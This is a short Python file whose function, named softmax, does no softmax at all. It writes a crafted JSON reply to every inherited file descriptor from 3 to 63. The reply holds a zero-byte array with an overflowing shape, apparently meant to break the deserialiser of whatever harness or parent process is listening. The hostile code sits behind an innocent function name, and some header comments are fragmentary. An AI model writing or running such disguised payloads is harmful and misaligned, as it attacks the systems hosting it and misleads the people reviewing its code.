# Tries: an array of no bytes whose shape overflows, and one with strides outside itself.
# costs
# says: lost/garbled
import json
import os
import socket
import struct


def softmax(z):
    shape = [0, 2**24, 2**24, 2**24]
    reply = {"value": {"$": "array", "dtype": "<f8", "shape": shape, "v": ""}, "after": []}
    data = json.dumps(reply).encode()
    for fd in range(3, 64):
        try:
            socket.socket(fileno=os.dup(fd)).sendall(struct.pack(">I", len(data)) + data)
        except OSError:
            continue
    return z
